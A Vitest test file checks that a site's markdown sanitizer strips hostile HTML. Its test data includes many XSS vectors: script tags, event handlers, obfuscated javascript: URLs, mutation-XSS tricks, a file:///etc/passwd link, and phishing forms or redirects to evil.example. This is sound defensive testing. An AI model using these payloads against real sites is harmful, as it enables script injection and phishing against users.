/**
 * Hostile markdown and HTML through the site's own markdown processor (astro.config.ts, real
 * plugin order), asserted on the HTML that comes out. Each vector has its own expectation, and
 * every output also passes the same structural check: only allow-listed elements, no event
 * handlers, no style, no srcset, no URL with a scheme outside http(s)/mailto/tel.
 */
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sanitizeSchema } from '../../src/markdown/sanitize-schema.ts';
import { splitAtImages } from '../../src/markdown/image-placeholders.ts';
import { articleFolder, render, type Rendered } from './astro-processor.ts';

let folder: ReturnType<typeof articleFolder>;

beforeAll(async () => {
  const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#336699' } })
    .png()
    .toBuffer();
  folder = articleFolder({ 'photo.png': photo });
});
afterAll(() => folder.cleanup());

const allowedTags = new Set(sanitizeSchema.tagNames);
const URL_ATTRIBUTES = [
  'href',
  'src',
  'cite',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'poster',
  'background',
];
const SAFE_SCHEME = /^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/i;

/** Structural check that holds for every output, whatever the input was. */
function assertClean({ body, html }: Rendered) {
  for (const element of body.querySelectorAll('*')) {
    const tag = element.localName;
    expect(allowedTags.has(tag), `<${tag}> is not allow-listed`).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(name, `<${tag} ${name}>`).not.toMatch(/^on|^style$|^srcset$|^formaction$|^xmlns|^xlink/i);
      if (URL_ATTRIBUTES.includes(name)) expect(value, `<${tag} ${name}="${value}">`).toMatch(SAFE_SCHEME);
    }
  }
  // Local images leave the pipeline as Astro placeholders: their properties, as JSON, become attributes later.
  for (const match of html.matchAll(/__ASTRO_IMAGE_="([^"]*)"/g)) {
    const properties = JSON.parse(match[1]!.replaceAll('&#x22;', '"').replaceAll('&#x26;', '&')) as Record<
      string,
      unknown
    >;
    expect(
      Object.keys(properties).every((key) => ['src', 'alt', 'title', 'index'].includes(key)),
      Object.keys(properties).join(),
    ).toBe(true);
  }
}

async function sanitized(markdown: string): Promise<Rendered> {
  const result = await render(markdown, { filePath: folder.indexFile });
  assertClean(result);
  return result;
}

describe('the sanitizer, on hostile input', () => {
  it('removes <script> with its content, in any case', async () => {
    const { body } = await sanitized(
      'Before\n\n<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\nAfter',
    );
    expect(body.textContent).not.toContain('alert');
    expect(body.textContent).toContain('Before');
    expect(body.textContent).toContain('After');
  });

  it('removes inline event handlers but keeps the element', async () => {
    const { body } = await sanitized(
      '<p onclick="alert(1)" onmouseover=alert(1)>Click</p>\n\n' +
        '<details ontoggle=alert(1) open><summary>More</summary>Text</details>',
    );
    expect(body.querySelector('p')?.textContent).toBe('Click');
    expect(body.querySelector('details summary')?.textContent).toBe('More');
  });

  it('removes an image error handler and keeps a checked image', async () => {
    const { html } = await sanitized('<img src="photo.png" alt="Photo" onerror="alert(1)">');
    const images = splitAtImages(html).filter((part) => 'image' in part);
    expect(images).toEqual([{ image: { src: 'photo.png', alt: 'Photo' } }]);
  });

  it.each([
    ['a markdown link', '[x](javascript:alert(1))'],
    ['an upper-case scheme', '[x](JAVASCRIPT:alert(1))'],
    ['a leading space', '<a href=" javascript:alert(1)">x</a>'],
    ['an entity-encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['a newline inside the scheme', '<a href="java\nscript:alert(1)">x</a>'],
    [
      'decimal entities',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ],
    [
      'padded entities without semicolons',
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099' +
        '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    ],
    ['a percent-encoded scheme', '[x](java%0ascript:alert(1))'],
    ['a reference definition', '[x][evil]\n\n[evil]: javascript:alert(1)'],
    ['an autolink', '<javascript:alert(1)>'],
    ['vbscript:', '[x](vbscript:msgbox(1))'],
    ['a data: document', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['file:', '[x](file:///etc/passwd)'],
  ])('drops a dangerous link URL: %s', async (_, markdown) => {
    const { body } = await sanitized(markdown);
    for (const link of body.querySelectorAll('a')) expect(link.hasAttribute('href')).toBe(false);
  });

  it.each([
    ['javascript:', '![x](javascript:alert(1))'],
    ['a data: SVG', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
    ['an entity-encoded scheme in raw HTML', '<img src="&#106;avascript:alert(1)" alt="x">'],
  ])('drops a dangerous image URL: %s', async (_, markdown) => {
    const { body } = await sanitized(markdown);
    expect(body.querySelector('img')?.hasAttribute('src')).toBe(false);
  });

  it('drops srcset on images and removes <picture>/<source> with theirs', async () => {
    const { body, html } = await sanitized(
      '<img srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x" alt="a">\n' +
        '\n<picture><source srcset="javascript:alert(1)"><img alt="b"></picture>',
    );
    expect(html).not.toMatch(/srcset|<source|<picture/i);
    expect([...body.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual(['a', 'b']);
  });

  it('removes iframes, objects, embeds, applets and frames', async () => {
    const { body } = await sanitized(
      '<iframe src="https://evil.example"></iframe><object data="evil.swf">' +
        '<param name="x"></object><embed src="evil.swf"><applet code="x"></applet>' +
        '<frameset><frame src="https://evil.example"></frameset>\n\nKept',
    );
    expect(body.textContent?.trim()).toBe('Kept');
  });

  it('removes inline SVG with its script and handlers', async () => {
    const { body } = await sanitized(
      '<svg onload=alert(1)><script>alert(1)</script>' +
        '<a xlink:href="javascript:alert(1)"><text>Click</text></a></svg>\n\nKept',
    );
    expect(body.textContent?.trim()).toBe('Kept');
  });

  it('survives the MathML/style mutation-XSS vector', async () => {
    const { body } = await sanitized(
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    );
    expect(body.querySelector('img')).toBeNull();
  });

  it('survives the noscript mutation-XSS vector', async () => {
    const { body } = await sanitized(
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    );
    expect(body.querySelector('img')).toBeNull();
  });

  it('removes <template> with its content', async () => {
    const { body } = await sanitized('<template><script>alert(1)</script><p>hidden</p></template>\n\nKept');
    expect(body.textContent?.trim()).toBe('Kept');
  });

  it('removes <style> blocks with their CSS and style attributes', async () => {
    const { body } = await sanitized(
      '<style>body { display: none }</style>\n\n<p style="position: fixed; inset: 0">Text</p>',
    );
    expect(body.textContent).not.toContain('display');
    expect(body.querySelector('p')?.textContent).toBe('Text');
  });

  it('removes forms and their controls (phishing)', async () => {
    const { body } = await sanitized(
      '<form action="https://evil.example"><label>Password <input type="password" name="pw">' +
        '</label><button formaction="javascript:alert(1)">Log in</button>' +
        '<select><option>a</option></select><textarea>t</textarea></form>',
    );
    expect(body.querySelector('form, input, button, select, textarea, label')).toBeNull();
  });

  it('removes <meta>, <base> and <link> that would redirect or restyle the page', async () => {
    const { body } = await sanitized(
      '<meta http-equiv="refresh" content="0;url=https://evil.example">\n' +
        '<base href="https://evil.example/">\n' +
        '<link rel="stylesheet" href="https://evil.example/x.css">\n\nKept',
    );
    expect(body.textContent?.trim()).toBe('Kept');
    expect(body.querySelector('meta, base, link')).toBeNull();
  });

  it('removes HTML comments, including conditional ones', async () => {
    const { html } = await sanitized(
      '<!--[if IE]><script>alert(1)</script><![endif]-->\n\nText <!-- <img src=x onerror=alert(1)> -->',
    );
    expect(html).not.toContain('<!--');
  });

  it('removes <textarea>/<xmp>/<title> with content that would show markup as text', async () => {
    const { body } = await sanitized('<xmp><script>alert(1)</script></xmp><title>x</title>\n\nKept');
    expect(body.textContent?.trim()).toBe('Kept');
  });

  it('unwraps unknown and media elements but keeps their text', async () => {
    const { body } = await sanitized(
      '<video src="https://evil.example/v.mp4" onerror=alert(1)>Fallback</video> ' +
        '<marquee>Moving</marquee> <blink>Blink</blink>',
    );
    expect(body.querySelector('video, marquee, blink')).toBeNull();
    expect(body.textContent).toContain('Fallback');
  });

  it('prefixes ids and names so they cannot clobber page ids or DOM globals', async () => {
    const { body } = await sanitized(
      '<div id="page-main">a</div><a name="location">b</a><p id="cookie">c</p>',
    );
    expect(body.querySelector('div')?.id).toBe('user-content-page-main');
    expect(body.querySelector('a')?.getAttribute('name')).toBe('user-content-location');
    expect(body.querySelector('p')?.id).toBe('user-content-cookie');
  });

  it('drops class names, so editors cannot borrow the page chrome styles', async () => {
    const { body } = await sanitized('<p class="note visually-hidden">Text</p>');
    expect(body.querySelector('p')?.hasAttribute('class')).toBe(false);
  });

  it('drops microdata that would contradict the page JSON-LD', async () => {
    const { html } = await sanitized(
      '<div itemscope itemtype="https://schema.org/NewsArticle"><span itemprop="author">Someone else</span></div>',
    );
    expect(html).not.toMatch(/itemscope|itemtype|itemprop/i);
  });

  it('drops a cite URL with a bad scheme and target/formaction on links', async () => {
    const { body } = await sanitized(
      '<blockquote cite="javascript:alert(1)">Q</blockquote>\n\n' +
        '<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>',
    );
    expect(body.querySelector('blockquote')?.hasAttribute('cite')).toBe(false);
    const link = body.querySelector('a')!;
    expect(link.hasAttribute('target')).toBe(false);
    expect(link.hasAttribute('ping')).toBe(false);
  });

  it('drops aria and data attributes outside the allow-list', async () => {
    const { body } = await sanitized(
      '<p aria-hidden="true" data-x="1" role="alert" tabindex="1" hidden>Text</p>',
    );
    const paragraph = body.querySelector('p')!;
    expect([...paragraph.attributes].map((attribute) => attribute.name)).toEqual([]);
  });

  it('restricts dir and scope to their keywords', async () => {
    const { body } = await sanitized(
      '<p dir="rtl">a</p><p dir="javascript:x">b</p>\n\n' +
        '<table><tr><th scope="col">h</th><th scope="x">i</th></tr></table>',
    );
    const [rtl, bad] = body.querySelectorAll('p');
    expect(rtl?.getAttribute('dir')).toBe('rtl');
    expect(bad?.hasAttribute('dir')).toBe(false);
    const [col, badScope] = body.querySelectorAll('th');
    expect(col?.getAttribute('scope')).toBe('col');
    expect(badScope?.hasAttribute('scope')).toBe(false);
  });

  it('keeps safe links of each allowed kind', async () => {
    const { body } = await sanitized(
      '[web](https://example.org/a?b=c#d) [plain](http://example.org) ' +
        '[mail](mailto:desk@example.org) [call](tel:+441234567890) [rel](../other-article/) ' +
        '[frag](#top) [query](?page=2) <https://example.org/auto>',
    );
    expect([...body.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
      'https://example.org/a?b=c#d',
      'http://example.org',
      'mailto:desk@example.org',
      'tel:+441234567890',
      '../other-article/',
      '#top',
      '?page=2',
      'https://example.org/auto',
    ]);
  });

  it('keeps what articles need: tables, captions, keys, abbreviations, details, time, edits, ruby', async () => {
    const { body } = await sanitized(
      [
        '| Year | Ships |',
        '|:-----|------:|',
        '| 1986 | 12 |',
        '',
        '- [x] Lamp restored',
        '',
        '<table><caption>Crossings</caption><tr><th scope="col" abbr="Yr">Year</th></tr></table>',
        '',
        '<p lang="fr" dir="ltr">Press <kbd>Esc</kbd>, <abbr title="as soon as possible">ASAP</abbr>, ' +
          '<dfn>lantern</dfn>, <mark>new</mark>, <cite>The Gazette</cite>, <small>small</small>, ' +
          '<u>u</u>, <sub>2</sub><sup>3</sup>, <del cite="https://example.org/why">old</del>' +
          '<ins>new</ins>, <time datetime="2026-11-28">Saturday</time>, <ruby>灯<rt>tō</rt></ruby>, ' +
          'long<wbr>word, <q cite="https://example.org">q</q></p>',
        '',
        '<details><summary>Timeline</summary>1986</details>',
      ].join('\n'),
    );
    expect([...body.querySelectorAll('td')].map((cell) => cell.getAttribute('align'))).toEqual([
      'left',
      'right',
    ]);
    expect(body.querySelector('li')?.textContent?.trim()).toBe('Lamp restored');
    expect(body.querySelector('caption')?.textContent).toBe('Crossings');
    expect(body.querySelector('th[scope="col"][abbr="Yr"]')).not.toBeNull();
    const paragraph = body.querySelector('p[lang="fr"][dir="ltr"]')!;
    for (const tag of [
      'kbd',
      'abbr[title]',
      'dfn',
      'mark',
      'cite',
      'small',
      'u',
      'sub',
      'sup',
      'del[cite]',
      'ins',
      'time[datetime="2026-11-28"]',
      'ruby rt',
      'wbr',
      'q[cite]',
    ]) {
      expect(paragraph.querySelector(tag), tag).not.toBeNull();
    }
    expect(body.querySelector('details summary')?.textContent).toBe('Timeline');
  });

  it('escapes markup written as text and in code', async () => {
    const { html, body } = await sanitized(
      'Use `<script>alert(1)</script>` here.\n\n```html\n' +
        '<img src=x onerror=alert(1)>\n```\n\n&lt;script&gt;alert(1)&lt;/script&gt;',
    );
    expect(body.querySelectorAll('code')).toHaveLength(2);
    expect(body.querySelector('code')?.textContent).toBe('<script>alert(1)</script>');
    expect(html).toContain('&#x3C;script>');
  });
});
